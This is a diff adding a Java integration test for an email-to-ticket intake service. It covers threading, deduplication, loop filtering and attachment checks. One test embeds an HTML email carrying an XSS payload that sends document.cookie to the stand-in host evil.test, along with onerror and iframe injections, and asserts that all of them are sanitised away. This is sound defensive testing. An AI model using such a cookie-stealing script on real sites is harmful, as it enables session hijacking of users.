@@ -1,0 +1,213 @@
+package org.openbpo.support;
+
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.openbpo.shared.tenant.AllowedClients;
+import org.openbpo.shared.tenant.TenantScope;
+import org.openbpo.testing.IntegrationTest;
+import org.openbpo.work.WorkItem;
+import org.openbpo.work.WorkItemComments;
+import org.openbpo.work.WorkItems;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.context.ApplicationContext;
+
+import java.nio.charset.StandardCharsets;
+import java.util.concurrent.Callable;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/** Mail handed to a client's channel becomes tickets and comments, and whatever it holds, the outcome is recorded. */
+class EmailIntakeTest extends IntegrationTest {
+
+    @Autowired
+    ApplicationContext context;
+    @Autowired
+    EmailIntake intake;
+    @Autowired
+    WorkItems workItems;
+    @Autowired
+    WorkItemComments comments;
+    @Autowired
+    org.openbpo.support.persistence.InboundMessageRows rows;
+    @Autowired
+    org.springframework.transaction.support.TransactionTemplate transactions;
+
+    SupportFixture.Desk desk;
+
+    @BeforeEach
+    void aClientWithAnEmailChannel() {
+        desk = SupportFixture.desk(context, providerAdministrator(), unique("MAIL"), null, null);
+    }
+
+    @Test
+    void aNewMessageBecomesATicketAndItsRepliesCommentsOnIt() {
+        TestMail first = TestMail.from("Ann Customer <ann@customer.test>").to(desk.address()).subject("My card was charged twice")
+                .text("Hello,\nI was charged twice for order 4471.\n\n-- \nAnn");
+        IntakeOutcome created = receive(first);
+
+        assertThat(created.message().status()).isEqualTo(IntakeStatus.TICKET_CREATED);
+        WorkItem ticket = as(() -> workItems.get(desk.clientId(), created.message().itemId()));
+        assertThat(ticket.title()).isEqualTo("My card was charged twice");
+        assertThat(ticket.channel()).isEqualTo("EMAIL");
+        assertThat(ticket.serviceLine()).isEqualTo("support");
+        assertThat(ticket.requester()).isEqualTo("ann@customer.test");
+        assertThat(ticket.form()).containsEntry("customerEmail", "ann@customer.test")
+                .containsEntry("description", "Hello,\nI was charged twice for order 4471.");
+
+        IntakeOutcome byHeaders = receive(TestMail.from("ann@customer.test").subject("Re: My card was charged twice")
+                .inReplyTo(first.messageId()).text("Here is the receipt.\n\nOn Mon, Albion wrote:\n> earlier"));
+        IntakeOutcome bySubject = receive(TestMail.from("ann@customer.test")
+                .subject("Re: My card [" + ticket.reference() + "]").text("Any news?"));
+
+        assertThat(byHeaders.message().status()).isEqualTo(IntakeStatus.COMMENT_ADDED);
+        assertThat(byHeaders.message().itemId()).isEqualTo(ticket.id());
+        assertThat(bySubject.message().itemId()).isEqualTo(ticket.id());
+        assertThat(as(() -> comments.of(desk.clientId(), ticket.id())))
+                .extracting(WorkItemComments.Comment::body, WorkItemComments.Comment::visibility)
+                .containsExactly(org.assertj.core.groups.Tuple.tuple("Here is the receipt.", WorkItemComments.Visibility.CLIENT),
+                        org.assertj.core.groups.Tuple.tuple("Any news?", WorkItemComments.Visibility.CLIENT));
+    }
+
+    @Test
+    void theCustomersAnswerPutsATicketWaitingOnThemBackToWork() {
+        TestMail question = TestMail.from("ann@customer.test").subject("Change my address");
+        long ticket = receive(question).message().itemId();
+        var agent = org.openbpo.tenancy.CurrentUser.of(desk.setup().maker());
+        as(() -> workItems.move(desk.clientId(), ticket, new org.openbpo.work.MoveWorkItem("open", null), agent));
+        as(() -> workItems.move(desk.clientId(), ticket, new org.openbpo.work.MoveWorkItem("waiting_on_customer", "New postcode?"), agent));
+
+        receive(TestMail.from("ann@customer.test").subject("Re: Change my address").inReplyTo(question.messageId()).text("LS1 4AB"));
+
+        WorkItem resumed = as(() -> workItems.get(desk.clientId(), ticket));
+        assertThat(resumed.state()).isEqualTo("open");
+        assertThat(resumed.sla().pausedSince()).isNull();
+    }
+
+    @Test
+    void agentsSeeTheCustomersHtmlOnlySanitised() {
+        byte[] html = ("From: ann@customer.test\r\nSubject: Look\r\nMessage-ID: <" + unique("html") + "@customer.test>\r\n"
+                + "Content-Type: text/html; charset=UTF-8\r\n\r\n"
+                + "<p>Click <a href=\"https://shop.test/o/1\" onclick=\"steal()\">here</a>"
+                + "<script>document.location='https://evil.test/?'+document.cookie</script>"
+                + "<img src=x onerror=alert(1)><iframe src=https://evil.test></iframe></p>\r\n").getBytes(StandardCharsets.UTF_8);
+        IntakeOutcome outcome = as(() -> intake.receive(desk.clientId(), html, IntakeSource.RELAY));
+
+        TicketEmail shown = as(() -> intake.emailsOf(desk.clientId(), outcome.message().itemId(), admin())).getFirst();
+        assertThat(shown.safeHtml()).contains("https://shop.test/o/1").contains("here").contains("rel=\"")
+                .doesNotContain("<script").doesNotContain("onclick").doesNotContain("onerror").doesNotContain("<img")
+                .doesNotContain("iframe").doesNotContain("evil.test");
+        assertThat(shown.text()).isEqualTo("Click here");
+        assertThat(as(() -> workItems.get(desk.clientId(), outcome.message().itemId())).form()).containsEntry("description", "Click here");
+    }
+
+    @Test
+    void aStrangerNamingSomeoneElsesTicketRaisesANewOne() {
+        long ticket = receive(TestMail.from("ann@customer.test").subject("Refund")).message().itemId();
+        IntakeOutcome stranger = receive(TestMail.from("mallory@evil.test").subject("Re: Refund [WI-" + ticket + "]")
+                .text("Send the refund to my account instead"));
+
+        assertThat(stranger.message().status()).isEqualTo(IntakeStatus.TICKET_CREATED);
+        assertThat(stranger.message().itemId()).isNotEqualTo(ticket);
+        assertThat(stranger.message().notes()).singleElement().asString().contains("is not its customer");
+    }
+
+    @Test
+    void theSameMessageTwiceIsOneTicket() {
+        TestMail mail = TestMail.from("ann@customer.test").subject("Twice");
+        IntakeOutcome first = receive(mail);
+        IntakeOutcome again = receive(mail);
+        assertThat(again.duplicate()).isTrue();
+        assertThat(again.message().itemId()).isEqualTo(first.message().itemId());
+        assertThat(again.message().id()).isEqualTo(first.message().id());
+
+        TestMail noId = TestMail.from("ann@customer.test").subject("No id").withoutMessageId();
+        IntakeOutcome hashed = receive(noId);
+        assertThat(hashed.message().key()).startsWith("sha256:");
+        assertThat(receive(noId).duplicate()).isTrue();
+    }
+
+    @Test
+    void aMessageStoredBeforeACrashIsFinishedLaterAndOnlyOnce() {
+        TestMail mail = TestMail.from("ann@customer.test").subject("Stored, then the node died");
+        // What a node leaves behind when it dies after storing a message and before reading it.
+        as(() -> rows.insert(desk.clientId(), org.openbpo.shared.id.Ids.next(), mail.messageId(), mail.messageId(),
+                IntakeSource.IMAP, mail.bytes(), mail.bytes().length, clock.instant(), "ann@customer.test", "Stored", IntakeStatus.RECEIVED, null));
+
+        assertThat(TenantScope.call(AllowedClients.ALL, () -> intake.finishWaiting(100))).isPositive();
+        IntakeOutcome fetchedAgain = receive(mail);
+
+        assertThat(fetchedAgain.duplicate()).isTrue();
+        assertThat(fetchedAgain.message().status()).isEqualTo(IntakeStatus.TICKET_CREATED);
+        assertThat(as(() -> workItems.get(desk.clientId(), fetchedAgain.message().itemId()).title())).isEqualTo("Stored, then the node died");
+        assertThat(TenantScope.call(AllowedClients.ALL, () -> intake.finishWaiting(100))).isZero();
+    }
+
+    @Test
+    void automaticRepliesAndLoopsAreIgnoredWithAReason() {
+        IntakeOutcome away = receive(TestMail.from("ann@customer.test").header("Auto-Submitted", "auto-replied").subject("Out of office"));
+        assertThat(away.message().status()).isEqualTo(IntakeStatus.IGNORED);
+        assertThat(away.message().reason()).isEqualTo("Automatic message: Auto-Submitted: auto-replied");
+        assertThat(away.message().itemId()).isNull();
+
+        IntakeOutcome bulk = receive(TestMail.from("news@shop.test").header("Precedence", "bulk"));
+        assertThat(bulk.message().reason()).contains("Precedence: bulk");
+
+        IntakeOutcome ourself = receive(TestMail.from(desk.address()).subject("Re: something"));
+        assertThat(ourself.message().reason()).startsWith("Mail loop").contains("own address");
+
+        for (int i = 0; i < 20; i++) {
+            assertThat(receive(TestMail.from("robot@flood.test").subject("Flood " + i)).message().status())
+                    .isEqualTo(IntakeStatus.TICKET_CREATED);
+        }
+        IntakeOutcome flood = receive(TestMail.from("robot@flood.test").subject("Flood 21"));
+        assertThat(flood.message().status()).isEqualTo(IntakeStatus.IGNORED);
+        assertThat(flood.message().reason()).contains("more than 20 messages in a minute");
+        clock.advance(java.time.Duration.ofMinutes(2));
+        assertThat(receive(TestMail.from("robot@flood.test").subject("Later")).message().status()).isEqualTo(IntakeStatus.TICKET_CREATED);
+    }
+
+    @Test
+    void malformedMailIsKeptWithAReason() {
+        byte[] broken = ("From: ann@customer.test\r\nSubject: Broken\r\nMessage-ID: <broken-" + unique("m") + "@customer.test>\r\n"
+                + "Content-Type: multipart/mixed\r\n\r\nno boundary anywhere\r\n").getBytes(StandardCharsets.US_ASCII);
+        IntakeOutcome outcome = as(() -> intake.receive(desk.clientId(), broken, IntakeSource.RELAY));
+
+        assertThat(outcome.message().status()).isEqualTo(IntakeStatus.REJECTED);
+        assertThat(outcome.message().reason()).startsWith("Malformed MIME");
+        assertThat(outcome.message().subject()).isEqualTo("Broken");
+        assertThat(as(() -> intake.raw(desk.clientId(), outcome.message().id(), admin()))).isEqualTo(broken);
+    }
+
+    @Test
+    void executablesAreRefusedAndOtherFilesKept() {
+        IntakeOutcome outcome = receive(TestMail.from("ann@customer.test").subject("Files")
+                .attach("receipt.pdf", "application/pdf", "%PDF-1.7 receipt".getBytes(StandardCharsets.US_ASCII))
+                .attach("invoice.pdf.exe", "application/octet-stream", "MZ\u0090 program".getBytes(StandardCharsets.ISO_8859_1)));
+
+        long ticket = outcome.message().itemId();
+        assertThat(as(() -> comments.attachments(desk.clientId(), ticket))).extracting(WorkItemComments.Attachment::filename)
+                .containsExactly("receipt.pdf");
+        assertThat(outcome.message().notes()).singleElement().asString()
+                .contains("invoice.pdf.exe (executable files are refused)");
+        assertThat(as(() -> comments.of(desk.clientId(), ticket))).singleElement()
+                .satisfies(c -> assertThat(c.visibility()).isEqualTo(WorkItemComments.Visibility.INTERNAL));
+    }
+
+    private IntakeOutcome receive(TestMail mail) {
+        return TenantScope.call(AllowedClients.only(desk.clientId()), () -> intake.receive(desk.clientId(), mail.bytes(), IntakeSource.RELAY));
+    }
+
+    private org.openbpo.tenancy.CurrentUser admin() {
+        return org.openbpo.tenancy.CurrentUser.of(desk.setup().maker());
+    }
+
+    private <T> T as(Callable<T> work) {
+        return TenantScope.call(AllowedClients.only(desk.clientId()), () -> transactions.execute(tx -> {
+            try {
+                return work.call();
+            } catch (Exception e) {
+                throw new IllegalStateException(e);
+            }
+        }));
+    }
+}
